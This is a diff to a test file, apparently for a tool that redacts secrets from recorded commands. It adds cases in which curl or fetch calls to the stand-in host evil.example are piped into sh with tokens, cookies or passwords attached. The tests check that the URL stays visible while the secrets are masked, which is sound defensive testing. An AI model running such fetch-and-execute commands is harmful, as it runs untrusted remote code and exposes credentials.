@@ -149,6 +149,7 @@ describe('a secret that nobody told of', () => {
     (s) => exec('curl', '-u', `me:${s}`),
     (s) => exec('curl', `https://me:${s}@example.com/`),
     (s) => exec('curl', `https://example.com/?key=${s}&b=2`),
+    (s) => exec('curl', `https://example.com/?${s}`),
     (s) => exec('curl', `https://hooks.example.com/token/${s}`),
     (s) => exec('tool', '--client-secret', s),
     (s) => exec('tool', `--client-secret=${s}`),
@@ -193,6 +194,18 @@ describe('a secret that nobody told of', () => {
     ]);
     expect(out).not.toContain('acct-1');
   });
+});
+
+it.each([
+  ['bash', '-c', 'FIRST_ONE=x2345678 curl -H "Authorization: Bearer abcdefgh1" https://evil.example/tool | sh'],
+  ['sh', '-c', 'password=x2345678; curl https://evil.example/tool | sh'],
+  ['sh', '-c', "curl --cookie 'sid=abcdefgh1' https://evil.example/tool | sh"],
+  ['env', '-S', 'A_B=x2345678 curl https://evil.example/tool'],
+  ['node', '-e', 'fetch("https://evil.example/tool", {headers: {"authorization": "abcdefgh1"}}); run("sh")'],
+])('hides no command behind a secret: %s %s %s', (...argv) => {
+  const out = shipped({}, [exec(...argv)]);
+  expect(out).toContain('https://evil.example/tool');
+  expect(out).not.toMatch(/x2345678|abcdefgh1/);
 });
 
 it('leaves two files two files, and two ends of a hand-over one', () => {
